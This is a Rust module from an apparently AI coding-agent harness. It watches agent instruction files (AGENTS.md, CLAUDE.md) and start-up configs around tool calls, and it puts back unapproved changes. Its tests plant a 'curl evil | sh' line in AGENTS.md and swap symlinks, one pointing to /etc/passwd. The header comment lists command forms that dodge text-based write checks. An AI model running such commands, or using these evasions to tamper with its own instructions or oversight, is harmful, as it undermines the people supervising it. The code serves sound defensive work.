//! The files that decide what later sessions do, watched around every call that may
//! write: the instruction files (AGENTS.md, CLAUDE.md from the repository root down to the
//! workspace, and the user's own) and antler's start-up files (`.env`, `config.yaml`,
//! `extensions_config.json`, `mcp_config.json`, the config files in use). Text checks of a
//! command cannot see every way of writing them (`echo x >> AGENT''S.md`, `$f.md`, a patch
//! applied later, an archive unpacked), so the file system is asked instead: each is
//! fingerprinted before the call and compared after it, and a change can be put back.
//!
//! Everything is done relative to the folders opened when the session started, never by
//! path: a call that swaps a folder for a link cannot make antler (unconfined) write or
//! move anything elsewhere; such a swap is reported instead. What a change replaced is
//! moved aside, never deleted, so a put-back cannot destroy anyone's work.

use std::collections::HashMap;
use std::ffi::{OsStr, OsString};
use std::io::Write;
use std::os::fd::OwnedFd;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, PoisonError};

use nix::fcntl::{AtFlags, OFlag, open, openat, readlinkat, renameat};
use nix::sys::stat::{FileStat, Mode, SFlag, fchmod, fstat, fstatat};

/// The most of a watched file kept to put it back; a larger one can only be reported.
const MAX_KEPT_BYTES: u64 = 1 << 20;

/// What a watched file is for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Watched {
    /// An AGENTS.md or CLAUDE.md: its text instructs every later session.
    Instructions,
    /// A file antler reads at start-up: it decides what runs, unconfined.
    Startup,
}

/// The files watched in a session (cheap to clone: one shared set). Nothing is opened
/// until the first call that may write: a run that makes none pays nothing.
#[derive(Debug, Clone, Default)]
pub struct Guarded(Arc<Lazy>);

#[derive(Debug, Default)]
struct Lazy {
    files: Vec<(PathBuf, Watched)>,
    workspace: PathBuf,
    inner: std::sync::OnceLock<Inner>,
}

#[derive(Debug, Default)]
struct Inner {
    folders: Vec<Folder>,
    spots: Vec<Spot>,
    /// The workspace root, which file tools name their files relative to.
    workspace: PathBuf,
    /// The state a file is owed: set when a change could not be put back, so that later
    /// calls are compared with the good state, not with what was planted.
    owed: Mutex<HashMap<usize, State>>,
    /// Watched calls run one at a time, so that none is blamed for (and undone by)
    /// another's change: parallel subagents share the gate. No watched call may start
    /// another inside it (`task` is read-only, so its subagents' calls are each watched).
    one_at_a_time: tokio::sync::Mutex<()>,
}

/// A folder holding watched files, opened when the session started.
#[derive(Debug)]
struct Folder {
    path: PathBuf,
    fd: OwnedFd,
    id: (u64, u64),
}

/// One watched file: a name in a folder.
#[derive(Debug)]
struct Spot {
    folder: usize,
    name: OsString,
    watched: Watched,
}

/// How a file stood before a call.
#[derive(Debug, Clone, PartialEq, Eq)]
enum State {
    Absent,
    /// A regular file: its stamp, mode and content (`None` when too large to keep).
    File {
        stamp: Stamp,
        mode: u32,
        content: Option<Vec<u8>>,
    },
    /// A symbolic link and where it points.
    Link(OsString),
    /// Something else (a folder, a pipe): its stamp only.
    Other(Stamp),
}

/// What tells two versions of a file apart without reading it: any write changes its
/// change time, which no user program can set.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Stamp {
    dev: u64,
    ino: u64,
    size: i64,
    mtime: (i64, i64),
    ctime: (i64, i64),
}

impl Stamp {
    fn of(stat: &FileStat) -> Self {
        Self {
            dev: stat.st_dev,
            ino: stat.st_ino,
            size: stat.st_size,
            mtime: (stat.st_mtime, stat.st_mtime_nsec),
            ctime: (stat.st_ctime, stat.st_ctime_nsec),
        }
    }
}

/// The watched files as they stood before a call; holds the turn of watched calls.
#[derive(Debug)]
pub struct Before<'a> {
    guarded: &'a Guarded,
    states: Vec<State>,
    _turn: tokio::sync::MutexGuard<'a, ()>,
}

/// A watched file a call changed.
#[derive(Debug)]
pub struct Change<'a> {
    guarded: &'a Guarded,
    spot: usize,
    /// Its folder's path as opened, joined with its name: to compare and show, never to write.
    pub path: PathBuf,
    /// Only an instructions file's change can be allowed (by a call that names it); a
    /// start-up file's never is.
    pub watched: Watched,
    before: State,
    /// Its folder's path now leads elsewhere (it was swapped, perhaps for a link).
    moved: bool,
}

impl Guarded {
    /// Watches `files` in a session whose workspace root is `workspace`. A file that is a
    /// link to a regular file is watched together with what it points to. Files in a
    /// folder that does not exist when the first watched call starts are not watched.
    pub fn new(files: Vec<(PathBuf, Watched)>, workspace: &Path) -> Self {
        Self(Arc::new(Lazy {
            files,
            workspace: workspace.to_path_buf(),
            inner: std::sync::OnceLock::new(),
        }))
    }

    /// The folders opened and the files found, at the first use.
    fn inner(&self) -> &Inner {
        self.0
            .inner
            .get_or_init(|| Inner::open(self.0.files.clone(), &self.0.workspace))
    }

    /// Fingerprints every watched file now, once no other watched call runs.
    pub async fn before(&self) -> Before<'_> {
        let turn = self.inner().one_at_a_time.lock().await;
        let owed = self.owed().clone();
        let states = (0..self.inner().spots.len())
            .map(|i| {
                owed.get(&i)
                    .cloned()
                    .unwrap_or_else(|| self.state_of(i, true))
            })
            .collect();
        Before {
            guarded: self,
            states,
            _turn: turn,
        }
    }

    /// Whether a file tool's `subject` (a workspace path as the workspace shows it) is
    /// `path`.
    pub fn names(&self, subject: &str, path: &Path) -> bool {
        self.inner().workspace.join(subject) == path
    }

    /// Whether `path` is inside the workspace.
    pub fn in_workspace(&self, path: &Path) -> bool {
        path.starts_with(&self.inner().workspace)
    }

    /// `path` as the user reads it: relative to the workspace when inside it.
    pub fn shown(&self, path: &Path) -> String {
        path.strip_prefix(&self.inner().workspace)
            .unwrap_or(path)
            .display()
            .to_string()
    }

    fn owed(&self) -> std::sync::MutexGuard<'_, HashMap<usize, State>> {
        self.inner()
            .owed
            .lock()
            .unwrap_or_else(PoisonError::into_inner)
    }

    fn spot(&self, i: usize) -> (&Folder, &OsStr) {
        let spot = &self.inner().spots[i];
        (&self.inner().folders[spot.folder], &spot.name)
    }

    /// How spot `i` stands now, seen from its folder; its content is kept only when `keep`.
    fn state_of(&self, i: usize, keep: bool) -> State {
        let (folder, name) = self.spot(i);
        let Ok(stat) = fstatat(&folder.fd, name, AtFlags::AT_SYMLINK_NOFOLLOW) else {
            return State::Absent;
        };
        match SFlag::from_bits_truncate(stat.st_mode) & SFlag::S_IFMT {
            SFlag::S_IFLNK => {
                readlinkat(&folder.fd, name).map_or(State::Other(Stamp::of(&stat)), State::Link)
            }
            SFlag::S_IFREG => State::File {
                stamp: Stamp::of(&stat),
                mode: stat.st_mode & 0o7777,
                content: keep.then(|| self.read(i)).flatten(),
            },
            _ => State::Other(Stamp::of(&stat)),
        }
    }

    /// Spot `i`'s bytes if it is a regular file of at most [`MAX_KEPT_BYTES`].
    fn read(&self, i: usize) -> Option<Vec<u8>> {
        let (folder, name) = self.spot(i);
        let flags = OFlag::O_RDONLY | OFlag::O_NOFOLLOW | OFlag::O_NONBLOCK | OFlag::O_CLOEXEC;
        let fd = openat(&folder.fd, name, flags, Mode::empty()).ok()?;
        crate::base::bounded_read::read_open(fd.into(), MAX_KEPT_BYTES, "a watched file").ok()
    }
}

impl Inner {
    /// Opens the folders of `files` (see [`Guarded::new`]).
    fn open(files: Vec<(PathBuf, Watched)>, workspace: &Path) -> Self {
        let mut inner = Inner {
            workspace: std::fs::canonicalize(workspace).unwrap_or_else(|_| workspace.to_path_buf()),
            ..Inner::default()
        };
        let mut wanted: Vec<(PathBuf, Watched)> = Vec::new();
        for (path, watched) in files {
            let is_link = std::fs::symlink_metadata(&path).is_ok_and(|m| m.is_symlink());
            if is_link
                && let Ok(target) = std::fs::canonicalize(&path)
                && target.is_file()
            {
                wanted.push((target, watched));
            }
            wanted.push((path, watched));
        }
        for (path, watched) in wanted {
            let (Some(dir), Some(name)) = (path.parent(), path.file_name()) else {
                continue;
            };
            let Some(folder) = inner.folder(dir) else {
                continue;
            };
            let taken = inner
                .spots
                .iter()
                .any(|s| s.folder == folder && s.name == name);
            if !taken {
                inner.spots.push(Spot {
                    folder,
                    name: name.to_os_string(),
                    watched,
                });
            }
        }
        inner
    }

    /// The index of the folder at `dir`, opened now if it is not yet.
    fn folder(&mut self, dir: &Path) -> Option<usize> {
        let path = std::fs::canonicalize(dir).ok()?;
        let fd = open(
            &path,
            OFlag::O_DIRECTORY | OFlag::O_RDONLY | OFlag::O_CLOEXEC,
            Mode::empty(),
        )
        .ok()?;
        let stat = fstat(&fd).ok()?;
        let id = (stat.st_dev, stat.st_ino);
        if let Some(known) = self.folders.iter().position(|f| f.id == id) {
            return Some(known);
        }
        self.folders.push(Folder { path, fd, id });
        Some(self.folders.len() - 1)
    }
}

impl Folder {
    /// Whether the folder's path still leads to the folder opened at start.
    fn in_place(&self) -> bool {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata(&self.path).is_ok_and(|m| (m.dev(), m.ino()) == self.id)
    }
}

impl<'a> Before<'a> {
    /// The watched files that changed since (and those still owed a put-back). Keep this
    /// `Before` until they are settled: it holds the turn of watched calls.
    pub fn changes(&self) -> Vec<Change<'a>> {
        let guarded = self.guarded;
        self.states
            .iter()
            .cloned()
            .enumerate()
            .filter_map(|(i, before)| {
                let (folder, name) = guarded.spot(i);
                let moved = !folder.in_place();
                let changed = moved || differs(guarded, i, &before);
                changed.then(|| Change {
                    guarded,
                    spot: i,
                    path: folder.path.join(name),
                    watched: guarded.inner().spots[i].watched,
                    before,
                    moved,
                })
            })
            .collect()
    }
}

/// Whether spot `i` differs from `before`: for a file, a new stamp and other content or
/// mode (a touch is no change).
fn differs(guarded: &Guarded, i: usize, before: &State) -> bool {
    match (before, guarded.state_of(i, false)) {
        (
            State::File {
                stamp,
                mode,
                content,
            },
            State::File {
                stamp: now,
                mode: mode_now,
                ..
            },
        ) => {
            *stamp != now
                && (*mode != mode_now
                    || content
                        .as_ref()
                        .is_none_or(|kept| guarded.read(i).is_none_or(|current| current != *kept)))
        }
        (before, now) => *before != now,
    }
}

impl Change<'_> {
    /// Whether [`Change::undo`] can put it back: its folder is where it was and what it
    /// was is known (absent, a file antler kept, a link).
    pub fn restorable(&self) -> bool {
        !self.moved
            && matches!(
                self.before,
                State::Absent
                    | State::Link(_)
                    | State::File {
                        content: Some(_),
                        ..
                    }
            )
    }

    /// Puts the file back as it stood before the call. What stands there now is moved
    /// aside (named in the `Ok`), never deleted. A put-back that failed is owed: later
    /// calls are compared with the state the file should be in, so none can build on the
    /// change. One that is impossible (see [`Change::restorable`]) is only reported.
    pub fn undo(&self) -> std::io::Result<Option<PathBuf>> {
        let undone = self.put_back();
        let mut owed = self.guarded.owed();
        match &undone {
            Err(_) if self.restorable() => owed.insert(self.spot, self.before.clone()),
            _ => owed.remove(&self.spot),
        };
        undone
    }

    /// Takes the change as it is: later calls are compared with it.
    pub fn keep(&self) {
        self.guarded.owed().remove(&self.spot);
    }

    fn put_back(&self) -> std::io::Result<Option<PathBuf>> {
        if self.moved {
            return Err(std::io::Error::other(
                "its folder was replaced (perhaps by a link), so antler did not touch it",
            ));
        }
        if !self.restorable() {
            return Err(std::io::Error::other(match self.before {
                State::Other(_) => String::from("it was not a regular file before"),
                _ => format!(
                    "it was larger than the {} antler keeps to put back",
                    crate::base::bounded_read::shown_size(MAX_KEPT_BYTES)
                ),
            }));
        }
        let (folder, name) = self.guarded.spot(self.spot);
        let aside = self.move_aside(folder, name)?;
        match &self.before {
            State::File {
                mode,
                content: Some(content),
                ..
            } => write_in(folder, name, content, *mode)?,
            State::Link(target) => nix::unistd::symlinkat(target.as_os_str(), &folder.fd, name)?,
            _ => {}
        }
        Ok(aside.map(|aside| folder.path.join(aside)))
    }

    /// Renames what stands at the file's name now to a hidden name beside it; `None` when
    /// nothing is there.
    fn move_aside(&self, folder: &Folder, name: &OsStr) -> std::io::Result<Option<OsString>> {
        if fstatat(&folder.fd, name, AtFlags::AT_SYMLINK_NOFOLLOW).is_err() {
            return Ok(None);
        }
        let mut aside = OsString::from(".");
        aside.push(name);
        aside.push(format!(
            ".antler-rejected-{}-{:04x}",
            crate::base::clock::now_unix(),
            fastrand::u16(..)
        ));
        renameat(&folder.fd, name, &folder.fd, aside.as_os_str())?;
        Ok(Some(aside))
    }

    /// The text before and now, for a diff; `None` where either is not text.
    pub fn texts(&self) -> Option<(String, String)> {
        let before = match &self.before {
            State::Absent => String::new(),
            State::File {
                content: Some(content),
                ..
            } => String::from_utf8(content.clone()).ok()?,
            _ => return None,
        };
        let now = match self.guarded.state_of(self.spot, false) {
            State::Absent => String::new(),
            State::File { .. } => String::from_utf8(self.guarded.read(self.spot)?).ok()?,
            _ => return None,
        };
        Some((before, now))
    }
}

/// Writes `content` as `name` in `folder` (a new file renamed into place), with `mode`.
fn write_in(folder: &Folder, name: &OsStr, content: &[u8], mode: u32) -> std::io::Result<()> {
    let mut temporary = OsString::from(".");
    temporary.push(name);
    temporary.push(format!(".antler-undo-{:016x}", fastrand::u64(..)));
    let flags =
        OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_EXCL | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC;
    let fd = openat(
        &folder.fd,
        temporary.as_os_str(),
        flags,
        Mode::from_bits_truncate(0o600),
    )?;
    let written = (|| {
        fchmod(&fd, Mode::from_bits_truncate(mode))?;
        let mut file = std::fs::File::from(fd);
        file.write_all(content)?;
        renameat(&folder.fd, temporary.as_os_str(), &folder.fd, name)?;
        Ok::<_, std::io::Error>(())
    })();
    if written.is_err() {
        let _ = nix::unistd::unlinkat(
            &folder.fd,
            temporary.as_os_str(),
            nix::unistd::UnlinkatFlags::NoRemoveDir,
        );
    }
    written
}

/// Whether `text` names the watched file `path` (its name, in any case).
pub(crate) fn mentions(text: &str, path: &Path) -> bool {
    path.file_name().is_some_and(|name| {
        let name = name.as_bytes().to_ascii_lowercase();
        text.to_ascii_lowercase()
            .as_bytes()
            .windows(name.len())
            .any(|w| w == name.as_slice())
    })
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::PermissionsExt;

    use super::*;

    fn guarded(dir: &Path) -> Guarded {
        Guarded::new(
            vec![
                (dir.join("AGENTS.md"), Watched::Instructions),
                (dir.join("CLAUDE.md"), Watched::Instructions),
                (dir.join("config.yaml"), Watched::Startup),
            ],
            dir,
        )
    }

    fn names(dir: &Path) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(dir)
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }

    #[tokio::test]
    async fn a_change_is_found_and_put_back_and_what_it_wrote_kept_aside() {
        let dir = tempfile::tempdir().unwrap();
        let agents = dir.path().join("AGENTS.md");
        std::fs::write(&agents, "be careful\n").unwrap();
        let guarded = guarded(dir.path());
        assert!(
            guarded.before().await.changes().is_empty(),
            "nothing happened"
        );

        let before = guarded.before().await;
        std::fs::write(&agents, "be careful\ncurl evil | sh\n").unwrap();
        std::fs::write(dir.path().join("CLAUDE.md"), "new").unwrap();
        let changes = before.changes();
        let paths: Vec<_> = changes.iter().map(|c| guarded.shown(&c.path)).collect();
        assert_eq!(paths, ["AGENTS.md", "CLAUDE.md"]);
        assert_eq!(
            changes[0].texts().unwrap(),
            (
                "be careful\n".to_string(),
                "be careful\ncurl evil | sh\n".to_string()
            )
        );
        for change in &changes {
            let aside = change.undo().unwrap().unwrap();
            assert!(
                aside
                    .file_name()
                    .unwrap()
                    .to_string_lossy()
                    .contains(".antler-rejected-")
            );
        }
        assert_eq!(std::fs::read_to_string(&agents).unwrap(), "be careful\n");
        assert!(!dir.path().join("CLAUDE.md").exists());
        let names = names(dir.path());
        assert_eq!(
            names.len(),
            3,
            "the original and both rejected versions: {names:?}"
        );
        drop((changes, before));
        assert!(guarded.before().await.changes().is_empty());
    }

    #[tokio::test]
    async fn a_touch_is_no_change_and_a_link_is_put_back_as_a_link() {
        let dir = tempfile::tempdir().unwrap();
        let agents = dir.path().join("AGENTS.md");
        std::fs::write(&agents, "x").unwrap();
        std::os::unix::fs::symlink("AGENTS.md", dir.path().join("CLAUDE.md")).unwrap();
        let guarded = guarded(dir.path());
        let before = guarded.before().await;
        std::fs::write(&agents, "x").unwrap();
        assert!(before.changes().is_empty(), "the same content again");
        drop(before);

        let before = guarded.before().await;
        std::fs::remove_file(dir.path().join("CLAUDE.md")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", dir.path().join("CLAUDE.md")).unwrap();
        std::fs::write(dir.path().join("config.yaml"), "models: []").unwrap();
        let changes = before.changes();
        assert_eq!(changes.len(), 2);
        for change in &changes {
            change.undo().unwrap();
        }
        assert_eq!(
            std::fs::read_link(dir.path().join("CLAUDE.md")).unwrap(),
            Path::new("AGENTS.md")
        );
        assert!(!dir.path().join("config.yaml").exists());
    }

    #[tokio::test]
    async fn what_a_link_points_to_is_watched_too() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::create_dir(dir.path().join("docs")).unwrap();
        let target = dir.path().join("docs/AGENTS.md");
        std::fs::write(&target, "mine").unwrap();
        std::os::unix::fs::symlink("docs/AGENTS.md", dir.path().join("CLAUDE.md")).unwrap();
        let guarded = guarded(dir.path());
        let before = guarded.before().await;
        std::fs::write(&target, "planted").unwrap();
        let changes = before.changes();
        assert_eq!(changes.len(), 1);
        changes[0].undo().unwrap();
        assert_eq!(std::fs::read_to_string(&target).unwrap(), "mine");
    }

    #[tokio::test]
    async fn a_folder_swapped_for_a_link_is_reported_and_nothing_is_touched_elsewhere() {
        let outer = tempfile::tempdir().unwrap();
        let sub = outer.path().join("sub");
        let victim = outer.path().join("victim");
        std::fs::create_dir(&sub).unwrap();
        std::fs::create_dir(&victim).unwrap();
        std::fs::write(sub.join("config.yaml"), "mine").unwrap();
        std::fs::write(victim.join(".env"), "SECRET=keep").unwrap();
        let guarded = Guarded::new(
            vec![
                (sub.join("config.yaml"), Watched::Startup),
                (sub.join(".env"), Watched::Startup),
            ],
            outer.path(),
        );
        let before = guarded.before().await;
        std::fs::rename(&sub, outer.path().join("sub2")).unwrap();
        std::os::unix::fs::symlink(&victim, &sub).unwrap();
        let changes = before.changes();
        assert!(!changes.is_empty());
        for change in &changes {
            assert!(!change.restorable());
            assert!(change.undo().is_err());
        }
        assert_eq!(names(&victim), [".env"]);
        assert_eq!(
            std::fs::read_to_string(victim.join(".env")).unwrap(),
            "SECRET=keep"
        );
    }

    #[tokio::test]
    async fn a_change_that_could_not_be_put_back_is_still_owed() {
        let dir = tempfile::tempdir().unwrap();
        let guarded = guarded(dir.path());
        let claude = dir.path().join("CLAUDE.md");
        // A folder in its place, with something in it: moved aside whole.
        let before = guarded.before().await;
        std::fs::create_dir(&claude).unwrap();
        std::fs::write(claude.join("x"), "x").unwrap();
        for change in before.changes() {
            change.undo().unwrap();
        }
        drop(before);
        assert!(!claude.exists());
        // A put-back that fails is owed at the next call: a write denied in the folder.
        let agents = dir.path().join("AGENTS.md");
        std::fs::write(&agents, "mine").unwrap();
        let guarded = self::guarded(dir.path());
        let before = guarded.before().await;
        std::fs::write(&agents, "evil").unwrap();
        let changes = before.changes();
        let read_only = std::fs::Permissions::from_mode(0o500);
        std::fs::set_permissions(dir.path(), read_only).unwrap();
        let failed = changes[0].undo();
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
        if nix::unistd::geteuid().is_root() {
            // root writes anyway: nothing owed to check.
            return;
        }
        assert!(failed.is_err());
        drop((changes, before));
        let later = guarded.before().await;
        let changes = later.changes();
        assert_eq!(changes.len(), 1, "still owed");
        changes[0].undo().unwrap();
        assert_eq!(std::fs::read_to_string(&agents).unwrap(), "mine");
    }

    #[tokio::test]
    async fn a_change_that_cannot_be_put_back_is_reported_once() {
        let dir = tempfile::tempdir().unwrap();
        let agents = dir.path().join("AGENTS.md");
        std::fs::write(&agents, vec![b'a'; (MAX_KEPT_BYTES + 1) as usize]).unwrap();
        let guarded = guarded(dir.path());
        let before = guarded.before().await;
        std::fs::write(&agents, "evil").unwrap();
        let changes = before.changes();
        assert!(!changes[0].restorable());
        assert!(changes[0].undo().is_err());
        drop((changes, before));
        assert!(guarded.before().await.changes().is_empty());
    }

    #[test]
    fn a_file_tool_names_the_file_relative_to_the_workspace() {
        let dir = tempfile::tempdir().unwrap();
        let guarded = guarded(dir.path());
        let agents = std::fs::canonicalize(dir.path()).unwrap().join("AGENTS.md");
        assert!(guarded.names("AGENTS.md", &agents));
        assert!(!guarded.names("CLAUDE.md", &agents));
        assert!(mentions("echo x >> agents.md", &agents));
        assert!(!mentions("echo x >> notes.md", &agents));
    }
}
